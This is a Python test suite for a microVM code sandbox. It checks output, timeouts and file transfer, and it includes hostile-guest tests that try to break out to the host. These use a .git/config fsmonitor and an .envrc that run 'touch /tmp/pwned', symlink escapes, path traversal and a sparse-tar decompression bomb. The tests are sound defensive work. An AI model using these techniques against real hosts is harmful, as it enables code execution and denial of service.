#!/usr/bin/env python3
"""`airlock run` end to end: each test boots a fresh microVM on the backend named by
$AIRLOCK_TEST_BACKEND (default tcg) and checks what the guest program saw and returned."""
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import (AIRLOCK, SLOWDOWN, airlock, expect, main, misbehaving_images,  # noqa: E402
                     run_code, run_json, test)


@test
def python_hello():
    r = run_code('print("hello from python")')
    expect(r.status == 0 and r.stdout == b"hello from python\n", "python hello", r)


@test
def javascript_hello():
    r = run_code('console.log("hello from " + "node")', "--lang", "javascript")
    expect(r.status == 0 and r.stdout == b"hello from node\n", "node hello", r)


@test
def javascript_exit_status_and_exit_listeners():
    """node's status as node gives it (process.exitCode, process.exit, an uncaught error), and
    what its 'exit' listeners print still comes back (the starter reports the exit after them)."""
    r = run_code("process.on('exit', (code) => console.log('listener saw', code));\n"
                 "process.exitCode = 4;\nconsole.log('main');\n", "--lang", "javascript")
    expect(r.status == 4 and r.stdout == b"main\nlistener saw 4\n", "exitCode and a listener", r)
    r = run_code("console.log('before'); process.exit(7);", "--lang", "javascript")
    expect(r.status == 7 and r.stdout == b"before\n", "process.exit(7)", r)
    r = run_code("process.on('exit', () => console.error('last words'));\n"
                 "throw new Error('boom');\n", "--lang", "javascript")
    expect(r.status == 1 and b"Error: boom" in r.stderr and b"last words\n" in r.stderr,
           "an uncaught error: 1, its trace and the listener's words", r)


@test
def javascript_holds_its_exit_report_pipe_off_fd_4_and_from_children():
    """node's starter reports the exit on the agent's ready pipe once the 'exit' listeners ran
    (the agent answers then, not at the end of node's teardown): it holds that pipe, moved off
    fd 4 and close-on-exec, so that the program finds nothing on fd 4 and its children nothing
    at all. (Reopening the pipe through /proc failed, silently, until 2026-12-07: every node run
    waited for the exit.)"""
    code = ("const fs = require('fs');\n"
            "const pipes = fs.readdirSync('/proc/self/fd').filter((fd) => {\n"
            "  try { return fs.readlinkSync('/proc/self/fd/' + fd).startsWith('pipe:'); }\n"
            "  catch (e) { return false; } });\n"
            "for (const fd of pipes) {\n"
            "  const flags = /flags:\\s+(\\d+)/.exec(fs.readFileSync(`/proc/self/fdinfo/${fd}`,"
            " 'latin1'))[1];\n"
            "  console.log(fd, (parseInt(flags, 8) & 0o2000000) ? 'cloexec' : 'inherited');\n"
            "}\n")
    r = run_code(code, "--lang", "javascript")
    lines = r.stdout.decode().split("\n")
    held = [l for l in lines if l and int(l.split()[0]) >= 64]
    expect(r.status == 0 and not any(l.startswith("4 ") for l in lines), "nothing on fd 4", r)
    expect(len(held) == 1 and held[0].endswith(" cloexec"),
           "one pipe above 64, close-on-exec: the report's", r)


@test
def bash_hello():
    r = run_code('echo "hello from $0" | sed s/main.sh/bash/ | tr a-z A-Z', "--lang", "bash")
    expect(r.status == 0 and b"HELLO FROM" in r.stdout, "bash hello", r)


GO_MAIN = """package main

import (
	"bufio"
	"fmt"
	"os"
)

func main() {
	line, _ := bufio.NewReader(os.Stdin).ReadString('\\n')
	wd, _ := os.Getwd()
	fmt.Printf("%s from go in %s, %s", greeting(), wd, line)
	fmt.Fprintln(os.Stderr, "to stderr")
	os.Exit(3)
}
"""


@test
def go_builds_and_runs_a_main_package():
    """The code is package main, built with the .go files given beside it (a *_test.go is left
    out) and run in /work with stdin and its exit status; a build that fails is exit status 2
    with the compiler's words; only the standard library can be imported."""
    with tempfile.TemporaryDirectory() as tmp:
        for name, text in (("helper.go", 'package main\n\nfunc greeting() string { return "hello" }\n'),
                           ("helper_test.go", "this is not Go\n")):
            with open(os.path.join(tmp, name), "w") as f:
                f.write(text)
        r = run_code(GO_MAIN, "--lang", "go", "--put", "helper.go=" + tmp + "/helper.go",
                     "--put", "helper_test.go=" + tmp + "/helper_test.go", stdin=b"stdin\n")
    expect(r.status == 3 and r.stdout == b"hello from go in /work, stdin\n"
           and r.stderr == b"to stderr\n", "built with helper.go, ran, exit 3", r)
    r = run_code('package main\n\nfunc main() {\n\tundefinedThing()\n}\n', "--lang", "go")
    expect(r.status == 2 and b"main.go:4:2: undefined: undefinedThing" in r.stderr,
           "a build error: exit 2, the compiler's message", r)
    r = run_code('package main\n\nimport "github.com/example/nothing"\n\n'
                 'func main() { nothing.Do() }\n', "--lang", "go")
    expect(r.status == 2 and b"github.com/example/nothing" in r.stderr,
           "a module outside the standard library is refused by the build", r)


@test
def exit_code_is_passed_through():
    r = run_code("import sys; print('bye'); sys.exit(3)")
    expect(r.status == 3 and r.stdout == b"bye\n", "exit 3", r)
    r, j = run_json("exit 42", "--lang", "bash")
    expect(j["exit_code"] == 42 and j["signal"] is None and not j["timed_out"], "json exit", r)


@test
def stderr_is_separate():
    r, j = run_json("import sys; print('out'); print('err', file=sys.stderr); raise ValueError('x')")
    expect(j["stdout"] == "out\n", "stdout only has out", r)
    expect("err\n" in j["stderr"] and "ValueError: x" in j["stderr"], "stderr has err", r)
    expect(j["exit_code"] == 1, "exception exits 1", r)


@test
def stdin_reaches_the_program():
    r = run_code("import sys; data = sys.stdin.read(); print(len(data), data.upper())",
                 stdin=b"some input")
    expect(r.stdout == b"10 SOME INPUT\n", "stdin", r)


@test
def files_go_in_and_out():
    tmp = tempfile.mkdtemp()
    try:
        src = os.path.join(tmp, "in.csv")
        with open(src, "w") as f:
            f.write("x,y\n1,2\n3,4\n")
        out = os.path.join(tmp, "out")
        code = ("import csv, os\n"
                "rows = list(csv.DictReader(open('data/in.csv')))\n"
                "print(sum(int(r['y']) for r in rows))\n"
                "os.makedirs('out/sub', exist_ok=True)\n"
                "open('out/sub/result.txt', 'w').write('six')\n"
                "open('out/big.bin', 'wb').write(b'\\0' * (2 << 20))\n")
        # run_json: a sandbox failure is reported as itself, not as a missing key
        r, j = run_json(code, "--put", "data/in.csv=" + src, "--out", out)
        expect(j["stdout"] == "6\n", "read the file", r)
        files = {f["path"]: f for f in j["files"]}
        expect(files["sub/result.txt"]["returned"] and files["sub/result.txt"]["size"] == 3,
               "small output file returned", j["files"])
        expect(not files["big.bin"]["returned"] and files["big.bin"]["size"] == 2 << 20,
               "2 MiB file listed, not returned", j["files"])
        with open(os.path.join(out, "sub", "result.txt")) as f:
            expect(f.read() == "six", "output file saved by --out")
    finally:
        shutil.rmtree(tmp)


@test
def bad_file_path_is_refused():
    for path in ("../escape", "/etc/x", "a/../../b"):
        r = airlock("run", "--put", path + "=/etc/hostname", "print(1)")
        expect(r.status == 2 and b"--put" in r.stderr, "refused " + path, r)


@test
def timeout_kills_an_infinite_loop():
    r, j = run_json("print('started', flush=True)\nwhile True: pass", "--timeout", "2")
    expect(j["timed_out"] and j["exit_code"] is None, "timed out", r)
    expect(j["stdout"] == "started\n", "output before the timeout kept", r)
    # the run itself (request to result), not the boot before it, which emulation stretches
    expect(j["duration_ms"] < 5000, "returned in under 5 s (took %.0f ms)" % j["duration_ms"])
    r = run_code("import time; time.sleep(60)", "--timeout", "1")
    expect(r.status == 124 and b"timed out" in r.stderr, "exit 124 like timeout(1)", r)


@test
def output_flood_is_capped():
    code = ("import sys\nchunk = 'x' * 1023 + '\\n'\n"
            "for i in range(100 * 1024): sys.stdout.write(chunk)\n"
            "print('done', file=sys.stderr)")
    # the program's own timeout: the default 30 s is about what the flood takes in the emulated
    # KVM test host (25 to 35 s there, 14 s on tcg here)
    r, j = run_json(code, "--timeout", "120", timeout=180)
    expect(j["stdout_truncated"] and len(j["stdout"]) == 1 << 20, "stdout cut at 1 MiB", j.keys())
    expect(j["stderr"] == "done\n" and j["exit_code"] == 0, "program ran to the end",
           {k: v for k, v in j.items() if k != "stdout"})
    # well before that timeout
    expect(r.seconds < 30 * SLOWDOWN, "100 MB flood returned in %.1f s" % r.seconds)


@test
def a_print_per_line_flood_completes_and_is_counted():
    """200,000 prints (20 MB): the program runs to its end within the default timeout, the
    first 1 MiB comes back exact and the rest is counted. Unbuffered, a print was two write()s
    and a wake-up of the agent each: 30 s on tcg, past the timeout (how fast: `airlock bench`)."""
    code = "for i in range(200000): print('%06d ' % i + 'x' * 92)\n"
    r, j = run_json(code, timeout=120)
    expected = "".join("%06d " % i + "x" * 92 + "\n" for i in range(200000))
    expect(j["exit_code"] == 0 and not j["timed_out"], "ran to its end",
           {k: v for k, v in j.items() if k != "stdout"})
    expect(j["stdout_truncated"] and j["stdout"] == expected[:1 << 20],
           "the first 1 MiB, exact", len(j["stdout"]))


@test
def output_before_a_kill_a_crash_or_os_exit_is_returned():
    """Output the program printed is returned however it ends: its own os._exit, a timeout in C
    code (no Python runs to flush anything), a segfault, SIGKILL from itself, and in the middle
    of a long line without a newline. Each also prints to stderr, which must come whole too."""
    cases = {
        "os._exit": ("import os, sys\nprint('out'); print('err', file=sys.stderr)\n"
                     "print('partial', end='')\nos._exit(3)\n", 3, False),
        "timeout": ("import sys\nprint('out'); print('err', file=sys.stderr)\n"
                    "print('partial', end='')\nsum(range(10 ** 13))\n", None, True),
        "segfault": ("import ctypes, sys\nprint('out'); print('err', file=sys.stderr)\n"
                     "print('partial', end='')\nctypes.string_at(0)\n", None, False),
        "SIGKILL": ("import os, sys\nprint('out'); print('err', file=sys.stderr)\n"
                    "print('partial', end='')\nos.kill(os.getpid(), 9)\n", None, False),
    }
    for what, (code, status, timed_out) in cases.items():
        r, j = run_json(code, "--timeout", "3")
        expect(j["stdout"] == "out\npartial" and j["stderr"] == "err\n",
               "%s: the output printed before it" % what, j)
        expect(j["timed_out"] == timed_out and (status is None or j["exit_code"] == status),
               "%s: its end" % what, j)


@test
def output_is_written_as_it_comes():
    """airlock run writes the program's output while it runs: the first line arrives while the
    program still sleeps, stdout to stdout and stderr to stderr."""
    backend = os.environ.get("AIRLOCK_TEST_BACKEND", "tcg")
    code = ("import sys, time\nprint('first')\nprint('warned', file=sys.stderr)\n"
            "time.sleep(4)\nprint('last')\n")
    proc = subprocess.Popen([AIRLOCK, "run", "--backend=" + backend, code],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        first = proc.stdout.readline()
        running = proc.poll() is None
        rest, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    expect(first == b"first\n" and running, "the first line came while the program ran",
           (first, running))
    expect(rest == b"last\n" and err == b"warned\n" and proc.returncode == 0,
           "the rest, each stream to its own", (rest, err, proc.returncode))


@test
def output_over_several_credit_windows_arrives_byte_exact():
    """Numbered lines, written in pieces to stdout (4 KiB) and stderr (1 KiB) in turn: 4 MiB to
    stdout (its first 1 MiB, the cap, comes back) and 768 KiB to stderr (all of it). Each stream
    crosses its credit window (mcp/sandbox/sandbox_internal.h, FRAME_OUTPUT_WINDOW) several times: the agent
    must wait for the host's CREDIT and go on, and what arrives must be exact and in order.
    (Pieces, not a write per line: 80,000 writes took 107 s in the KVM test host.)"""
    code = ("import sys\n"
            "for b in range(0, 65536, 64):\n"
            "    sys.stdout.write(''.join('o%07d ' % i + 'x' * 54 + '\\n' for i in range(b, b + 64)))\n"
            "    sys.stderr.write(''.join('e%07d ' % i + 'y' * 38 + '\\n' for i in range(b, b + 64, 4)))\n")
    out = "".join("o%07d " % i + "x" * 54 + "\n" for i in range(65536))
    err = "".join("e%07d " % i + "y" * 38 + "\n" for i in range(0, 65536, 4))
    cap = 1 << 20
    expect(len(out) == 4 * cap and len(err) == 768 << 10, "the sizes the test means")
    r, j = run_json(code, "--timeout", "120", timeout=240)
    expect(j["exit_code"] == 0 and not j["timed_out"], "ran to its end",
           {k: v for k, v in j.items() if k not in ("stdout", "stderr")})
    expect(j["stdout"] == out[:cap], "stdout: the first 1 MiB written, exactly (%d bytes)"
           % len(j["stdout"]))
    expect(j["stdout_truncated"], "stdout flagged as cut")
    expect(j["stderr"] == err and not j["stderr_truncated"],
           "stderr: all %d bytes, exactly (%d came)" % (len(err), len(j["stderr"])))


@test
def a_signal_is_reported():
    r, j = run_json("import os, signal; os.kill(os.getpid(), signal.SIGKILL)")
    expect(j["signal"] == "SIGKILL" and j["exit_code"] is None, "SIGKILL reported", r)
    r = run_code("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)")
    expect(r.status == 128 + 11, "exit 128+11", r)


@test
def runs_as_unprivileged_user():
    r = run_code("import os; print(os.getuid(), os.getgid(), os.getcwd(), os.environ['HOME'])")
    expect(r.stdout == b"1000 1000 /work /work\n", "uid 1000 in /work", r)


@test
def root_fs_is_read_only():
    code = ("import os\n"
            "for p in ('/usr/evil', '/etc/evil', '/evil'):\n"
            "    try:\n"
            "        open(p, 'w'); print('WROTE', p)\n"
            "    except OSError as e: print(e.errno)\n"
            "open('/tmp/ok', 'w').write('x'); open('/work/ok', 'w').write('x'); print('tmp ok')")
    r = run_code(code)
    expect(b"WROTE" not in r.stdout and b"tmp ok" in r.stdout, "read-only root", r)


@test
def only_loopback_network():
    code = ("import os, socket\nprint(sorted(os.listdir('/sys/class/net')))\n"
            "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
            "c = socket.create_connection(s.getsockname()); print('loopback ok')\n"
            "try:\n    socket.create_connection(('10.0.2.2', 80), timeout=2)\n"
            "except OSError as e: print('outside:', e.errno)\n")
    r = run_code(code)
    expect(r.stdout.startswith(b"['lo']\nloopback ok\noutside:"), "only lo", r)


@test
def scientific_python_imports():
    code = ("import numpy as np, pandas as pd, scipy.linalg, matplotlib\n"
            "matplotlib.use('Agg'); import matplotlib.pyplot as plt\n"
            "df = pd.DataFrame({'a': np.arange(4)})\n"
            "print(int(df.a.sum()), round(float(scipy.linalg.det(np.eye(3))), 1))")
    r = run_code(code, "--timeout", "60")
    expect(r.stdout == b"6 1.0\n", "numpy, pandas, scipy, matplotlib", r)


@test
def background_processes_do_not_outlive_the_program():
    code = ("import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        time.sleep(100)\n"
            "    os._exit(0)\n"
            "print('parent done')")
    r = run_code(code, "--timeout", "30")
    expect(r.status == 0 and r.stdout == b"parent done\n", "parent output", r)
    expect(r.seconds < 15, "did not wait for the daemon (%.1f s)" % r.seconds)


@test
def entropy_differs_between_runs():
    code = "import os, random; print(os.urandom(8).hex(), random.random())"
    a, b = run_code(code), run_code(code)
    expect(a.status == 0 and a.stdout != b.stdout, "two runs differ", (a, b))


@test
def bad_arguments_are_refused():
    r = airlock("run", "--lang", "cobol", "x")
    expect(r.status == 2 and b"--lang" in r.stderr, "unknown language", r)
    r = airlock("run", "--timeout", "-1", "x")
    expect(r.status == 2 and b"--timeout" in r.stderr, "negative timeout", r)
    r = airlock("run")
    expect(r.status == 2, "no code", r)
    r = airlock("run", "--backend", "warp", "print(1)")
    expect(r.status == 125 and b"unknown backend" in r.stderr, "unknown backend", r)


@test
def doctor_explains_the_host():
    r = airlock("doctor")
    out = r.stdout.decode()
    backend = os.environ.get("AIRLOCK_TEST_BACKEND", "tcg")
    expect(r.status == 0 and re.search(r"^ok\s+%s\s" % backend, out, re.M), backend + " usable", r)
    if backend == "kvm":
        expect(re.search(r"^->\s+auto\s+kvm ", out, re.M), "auto picks kvm where KVM works", r)
    if os.path.exists("/sys/module/kvm_pvm"):
        expect(re.search(r"^no\s+kvm-host\s.*kvm_pvm.*cannot run a Linux guest", out, re.M),
               "kvm_pvm recognised", r)


@test
def image_list_shows_the_current_recipe():
    r = airlock("image", "list")
    out = r.stdout.decode()
    expect(r.status == 0 and "ready: yes" in out, "images ready", r)
    expect(re.search(r"^kernel-[0-9a-f]{16} .* current$", out, re.M), "kernel listed", r)


@test
def image_prune_removes_only_what_no_current_recipe_uses():
    """In an image directory of stand-ins: the current recipe's kernel, base, root file system and
    a snapshot made from it stay, as does what is not airlock's (the KVM test host's); an older
    recipe's artifacts, an older snapshot and a build step that died go. --dry-run removes
    nothing."""
    keys = dict(re.findall(r"(kernel|base|rootfs)-([0-9a-f]{16})",
                           airlock("image", "list").stdout.decode().split("\n")[1]))
    tmp = tempfile.mkdtemp(prefix="airlock-prune-")
    try:
        keep = ["kernel-" + keys["kernel"], "base-" + keys["base"], "rootfs-" + keys["rootfs"],
                "snapshot-python-tcg-0123456789abcdef", "kvmhost-0123456789abcdef"]
        drop = ["kernel-00000000000000aa", "rootfs-00000000000000bb",
                "snapshot-bash-tcg-00000000000000cc", ".tmp-base-00000000000000dd"]
        for name in keep + drop:
            os.makedirs(os.path.join(tmp, name))
            with open(os.path.join(tmp, name, "data"), "wb") as f:
                f.write(b"x" * 4096)
        for snapshot, rootfs in (("snapshot-python-tcg-0123456789abcdef", keys["rootfs"]),
                                 ("snapshot-bash-tcg-00000000000000cc", "00000000000000bb")):
            with open(os.path.join(tmp, snapshot, "manifest"), "w") as f:
                f.write("rootfs %s\n" % rootfs)
        r = airlock("image", "prune", "--images", tmp, "--dry-run")
        expect(r.status == 0 and set(os.listdir(tmp)) - {".lock"} == set(keep + drop)
               and r.stdout.count(b"would remove ") == len(drop) + 1, "a dry run only says", r)
        r = airlock("image", "prune", "--images", tmp)
        left = set(os.listdir(tmp)) - {".lock"}
        expect(r.status == 0 and left == set(keep), "the current recipe's and others' stay", (r, left))
        expect(all(name.encode() in r.stdout for name in drop), "each removal said", r)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


# ---- broken and hostile guests: the run must end with a clear error, never hang ----

def run_on_bad_guest(mode, env=None):
    tmp = misbehaving_images(mode)
    try:
        return airlock("run", "--images", tmp, "--timeout", "5", "print(1)", env=env)
    finally:
        shutil.rmtree(tmp)


@test
def guest_that_never_answers_ends_with_an_error():
    r = run_on_bad_guest("hang", env={"AIRLOCK_BOOT_TIMEOUT": "5"})
    expect(r.status == 125 and b"did not become ready within 5 s" in r.stderr, "boot deadline", r)
    expect(r.seconds < 10, "ended in %.1f s" % r.seconds)


@test
def agent_crash_ends_with_an_error():
    r = run_on_bad_guest("exit-ready")
    expect(r.status == 125 and b"before the program finished" in r.stderr, "VM ended", r)
    expect(b"Kernel panic" in r.stderr, "the guest's panic is quoted", r)


@test
def kernel_panic_ends_with_an_error():
    tmp = misbehaving_images("hang")
    try:
        os.unlink(os.path.join(tmp, "tree", "sbin", "init"))  # not in the image already built
        rootfs = [d for d in os.listdir(tmp) if d.startswith("rootfs-")][0]
        subprocess.run(["mkfs.ext4", "-q", "-F", "-d", os.path.join(tmp, "tree"),
                        os.path.join(tmp, rootfs, "rootfs.ext4"), "8M"], check=True,
                       stdout=subprocess.DEVNULL)
        r = airlock("run", "--images", tmp, "print(1)")
    finally:
        shutil.rmtree(tmp)
    expect(r.status == 125 and b"Kernel panic" in r.stderr, "no init: panic reported", r)
    expect(r.seconds < 30, "ended in %.1f s" % r.seconds)


@test
def malformed_frames_end_the_vm():
    for mode, why in (("garbage", b"unknown frame type"),
                      ("oversize", b"frame longer than its type allows")):
        r = run_on_bad_guest(mode)
        expect(r.status == 125 and b"malformed frame" in r.stderr and why in r.stderr, mode, r)


@test
def an_image_whose_agent_speaks_an_older_protocol_is_refused_clearly():
    for mode, version in (("v1-ready", 1), ("v2-ready", 2)):
        r = run_on_bad_guest(mode)
        expect(r.status == 125 and b"the guest agent speaks wire protocol %d, this airlock "
               b"speaks 3" % version in r.stderr and b"airlock image build" in r.stderr,
               "protocol %d: refused, saying why" % version, r)
        expect(b"malformed" not in r.stderr, "not called a malformed frame", r)
        expect(r.seconds < 30, "ended in %.1f s, at once" % r.seconds)


@test
def a_guest_flooding_past_the_output_cap_is_ended_at_once():
    # the agent drops output past the cap itself: whoever sends more is not the agent, and the
    # host stops decoding it at once rather than until the deadline (30 s + 2 s here)
    tmp = misbehaving_images("flood")
    try:
        r = airlock("run", "--images", tmp, "--timeout", "30", "print(1)")
    finally:
        shutil.rmtree(tmp)
    expect(r.status == 125 and b"more stdout than the run's cap" in r.stderr, "refused", r)
    expect(r.seconds < 15, "ended in %.1f s, not at the deadline" % r.seconds)


def sparse_tar(members, logical):
    """A tar archive of pax members (GNU sparse 0.1) that hold one byte each, which libarchive
    expands to `logical` bytes each."""
    def header(name, size, kind):
        block = bytearray(512)
        block[0:len(name)] = name.encode()
        block[100:108] = b"0000644\0"
        block[108:116] = block[116:124] = b"0000000\0"
        block[124:136] = b"%011o\0" % size
        block[136:148] = b"00000000000\0"
        block[156] = ord(kind)
        block[257:263] = b"ustar\0"
        block[263:265] = b"00"
        block[148:156] = b" " * 8
        block[148:156] = b"%06o\0 " % sum(block)
        return bytes(block)

    def record(kv):
        n = len(kv) + 2
        while len(b"%d %s\n" % (n, kv)) != n:
            n += 1
        return b"%d %s\n" % (n, kv)

    out = bytearray()
    for i in range(members):
        pax = (record(b"GNU.sparse.size=%d" % logical) + record(b"GNU.sparse.numblocks=1") +
               record(b"GNU.sparse.map=%d,1" % (logical - 1)))
        out += header("PaxHeader", len(pax), "x") + pax.ljust(512, b"\0")
        out += header("big%d" % i, 1, "0") + b"x".ljust(512, b"\0")
    return bytes(out + bytes(1024))


@test
def a_sparse_archive_from_the_guest_is_refused_in_bounded_memory():
    # 600 members of 1.2 MB each: every one within the archive's own length (1.2 MB), which is
    # all a check of single sizes sees; expanded, 720 MB
    tar = sparse_tar(600, 1200000)
    tmp = misbehaving_images("exit-tar", {"exit.tar": tar})
    # the largest resident set of airlock and everything it started (the VM too), measured by
    # a process of its own so that no earlier test's VM counts
    measure = ("import resource, subprocess, sys\n"
               "p = subprocess.run(sys.argv[1:], capture_output=True)\n"
               "sys.stdout.buffer.write(p.stdout)\n"
               "sys.stderr.buffer.write(p.stderr)\n"
               "print('maxrss-kb %d' % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
    try:
        proc = subprocess.run(
            ["/usr/bin/python3", "-c", measure, AIRLOCK, "run",
             "--backend=" + os.environ.get("AIRLOCK_TEST_BACKEND", "tcg"), "--images", tmp,
             "--json", "print(1)"], capture_output=True, timeout=180)
    finally:
        shutil.rmtree(tmp)
    out, err = proc.stdout, proc.stderr
    expect(b"malformed file archive" in err, "the archive is refused", (out, err[-2000:]))
    result = json.loads(out.splitlines()[0])
    expect(result["files"] == [], "no file from it", out)
    rss_mb = int(re.search(rb"maxrss-kb (\d+)", out).group(1)) / 1024
    expect(rss_mb < 300, "airlock and its VM stayed small: %.0f MB at most" % rss_mb)



# ---- --out DIR: the guest names the files, the host keeps its own (outside review, item 6) ----

def skipped_by_path(j):
    return {s["path"]: s["reason"] for s in j.get("out_skipped", [])}


def tree(root):
    """{relative path: bytes or "-> target"} of everything under root, links not followed."""
    found = {}
    for d, dirs, files in os.walk(root):
        for n in dirs + files:
            p = os.path.join(d, n)
            rel = os.path.relpath(p, root)
            if os.path.islink(p):
                found[rel] = "-> " + os.readlink(p)
            elif os.path.isfile(p):
                with open(p, "rb") as f:
                    found[rel] = f.read()
    return found


@test
def out_never_writes_a_git_config():
    """The review's case: a program writing /work/out/.git/config, run with --out on a
    repository, rewrote the host's .git/config. Hidden names are never written (a new .git
    would make a repository of its own), and each one is said."""
    tmp = tempfile.mkdtemp()
    try:
        repo = os.path.join(tmp, "repo")
        os.makedirs(os.path.join(repo, ".git"))
        config = os.path.join(repo, ".git", "config")
        with open(config, "w") as f:
            f.write("[core]\n\tbare = false\n")
        code = ("import os\n"
                "for d in ('/work/out/.git', '/work/out/fresh/.git'):\n"
                "    os.makedirs(d)\n"
                "    open(d + '/config', 'w').write('[core]\\n\\tfsmonitor = touch /tmp/pwned\\n')\n"
                "open('/work/out/.envrc', 'w').write('touch /tmp/pwned')\n"
                "open('/work/out/fresh/result.txt', 'w').write('ok')\n")
        r, j = run_json(code, "--out", repo)
        expect(j["exit_code"] == 0, "the program ran", r)
        with open(config) as f:
            expect(f.read() == "[core]\n\tbare = false\n", "the host's .git/config is unchanged")
        expect(not os.path.exists(os.path.join(repo, "fresh", ".git")) and
               not os.path.exists(os.path.join(repo, ".envrc")), "no new hidden file", tree(repo))
        skipped = skipped_by_path(j)
        for p in (".git/config", "fresh/.git/config", ".envrc"):
            expect("hidden" in skipped.get(p, ""), "%s reported in out_skipped" % p, j)
            expect(b"did not write " + p.encode() in r.stderr, "%s said on stderr" % p, r)
        with open(os.path.join(repo, "fresh", "result.txt")) as f:
            expect(f.read() == "ok", "the ordinary file beside them is written")
    finally:
        shutil.rmtree(tmp)


@test
def out_never_follows_a_symlink():
    """Symbolic links planted in DIR (to a directory outside, to a file outside that exists,
    to one that does not yet) are never followed: nothing outside DIR changes."""
    tmp = tempfile.mkdtemp()
    try:
        out, outside = os.path.join(tmp, "out"), os.path.join(tmp, "outside")
        os.makedirs(out)
        os.makedirs(outside)
        with open(os.path.join(outside, "victim.txt"), "w") as f:
            f.write("host data")
        os.symlink(outside, os.path.join(out, "d"))
        os.symlink(os.path.join(outside, "victim.txt"), os.path.join(out, "f.txt"))
        os.symlink(os.path.join(outside, "new.txt"), os.path.join(out, "dangling.txt"))
        os.makedirs(os.path.join(out, "real"))
        os.symlink(outside, os.path.join(out, "real", "deeper"))
        before_outside, before_out = tree(outside), tree(out)
        code = ("import os\n"
                "for d in ('d', 'real/deeper/sub'):\n"
                "    os.makedirs('/work/out/' + d)\n"
                "for p in ('d/x.txt', 'f.txt', 'dangling.txt', 'real/deeper/sub/y.txt'):\n"
                "    open('/work/out/' + p, 'w').write('guest')\n")
        r, j = run_json(code, "--out", out)
        expect(j["exit_code"] == 0, "the program ran", r)
        expect(tree(outside) == before_outside, "nothing outside DIR changed", tree(outside))
        expect(tree(out) == before_out, "the links in DIR are as they were", tree(out))
        skipped = skipped_by_path(j)
        for p in ("d/x.txt", "f.txt", "dangling.txt", "real/deeper/sub/y.txt"):
            expect("symbolic link" in skipped.get(p, ""), "%s reported" % p, j)
            expect(b"did not write " + p.encode() in r.stderr, "%s said on stderr" % p, r)
    finally:
        shutil.rmtree(tmp)


@test
def out_writes_new_files_exactly_and_keeps_existing_ones():
    """New files are written byte for byte (every byte value, a nested directory, a name in
    UTF-8); a file that already exists in DIR is kept as it was, names with a control
    character (DEL, C1 CSI; the guest cannot return C0) are not written, and all are
    reported."""
    tmp = tempfile.mkdtemp()
    try:
        out = os.path.join(tmp, "out")
        os.makedirs(os.path.join(out, "sub"))
        with open(os.path.join(out, "sub", "keep.txt"), "w") as f:
            f.write("mine")
        code = ("import os\n"
                "os.makedirs('/work/out/sub/deep')\n"
                "open('/work/out/sub/deep/all.bin', 'wb').write(bytes(range(256)) * 3)\n"
                "open('/work/out/sub/keep.txt', 'w').write('guest')\n"
                "open('/work/out/top.txt', 'w').write('top\\n')\n"
                "open('/work/out/caf\u00e9.txt', 'w').write('utf-8 name')\n"
                "open('/work/out/del\\x7f.txt', 'w').write('x')\n"
                "open('/work/out/csi\\u009b2J.txt', 'w').write('x')\n")
        r, j = run_json(code, "--out", out)
        expect(j["exit_code"] == 0, "the program ran", r)
        with open(os.path.join(out, "sub", "deep", "all.bin"), "rb") as f:
            expect(f.read() == bytes(range(256)) * 3, "binary file exact")
        with open(os.path.join(out, "top.txt"), "rb") as f:
            expect(f.read() == b"top\n", "text file exact")
        with open(os.path.join(out, "sub", "keep.txt")) as f:
            expect(f.read() == "mine", "the existing file is kept")
        with open(os.path.join(out, "caf\u00e9.txt")) as f:
            expect(f.read() == "utf-8 name", "a UTF-8 name is written")
        expect(skipped_by_path(j) == {
            "sub/keep.txt": "it exists on the host (never overwritten)",
            "del\\x7f.txt": "a name with control characters or bytes that are not UTF-8",
            "csi\\x9b2J.txt": "a name with control characters or bytes that are not UTF-8"},
            "only those are reported", j)
        expect(sorted(os.listdir(out)) == ["caf\u00e9.txt", "sub", "top.txt"], "nothing else",
               os.listdir(out))
        expect(b"did not write sub/keep.txt" in r.stderr, "said on stderr", r)
    finally:
        shutil.rmtree(tmp)


# ---- --dir PATH becomes /work; --command CMD runs there; --repo URL clones there ----

def write(path, content, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(content)
    os.chmod(path, mode)


@test
def dir_becomes_work_and_command_runs_there():
    """Nested files, a hidden file and a .git directory arrive byte for byte, an empty
    directory too, an executable stays one; --command runs as the sandbox user in /work, its
    exit status is ours and --out takes back what it left in /work/out."""
    tmp = tempfile.mkdtemp()
    try:
        src, out = os.path.join(tmp, "src"), os.path.join(tmp, "out")
        write(os.path.join(src, "a", "b", "deep.txt"), b"deep\n")
        write(os.path.join(src, ".hidden"), b"hidden\n")
        write(os.path.join(src, ".git", "HEAD"), b"ref: refs/heads/main\n")
        write(os.path.join(src, "data.bin"), bytes(range(256)) * 40)
        write(os.path.join(src, "run.sh"), b"#!/bin/sh\necho ran as $(id -u) in $(pwd)\n", 0o755)
        os.makedirs(os.path.join(src, "empty"))
        os.makedirs(out)
        cmd = ("cat a/b/deep.txt .hidden .git/HEAD; md5sum data.bin; ./run.sh; "
               "test -d empty && echo empty dir; find . -mindepth 1 | sort | tr '\\n' ' '; "
               "echo; echo result > out/r.txt; exit 7")
        r = airlock("run", "--dir", src, "--command", cmd, "--out", out)
        expect(r.status == 7, "the command's exit status", r)
        md5 = hashlib.md5(bytes(range(256)) * 40).hexdigest()
        expect(r.stdout.decode().splitlines() == [
            "deep", "hidden", "ref: refs/heads/main", md5 + "  data.bin",
            "ran as 1000 in /work", "empty dir",
            "./.git ./.git/HEAD ./.hidden ./a ./a/b ./a/b/deep.txt ./data.bin ./empty ./out "
            "./run.sh "], "the tree as it is on the host, and nothing else", r)
        expect(r.stderr == b"", "nothing skipped, nothing said", r)
        with open(os.path.join(out, "r.txt")) as f:
            expect(f.read() == "result\n", "--out took back out/r.txt")
        # without --command the code is the program, as ever, in the same /work
        r = run_code("print(open('a/b/deep.txt').read(), end='')", "--dir", src)
        expect(r.status == 0 and r.stdout == b"deep\n", "--dir with CODE", r)
    finally:
        shutil.rmtree(tmp)


@test
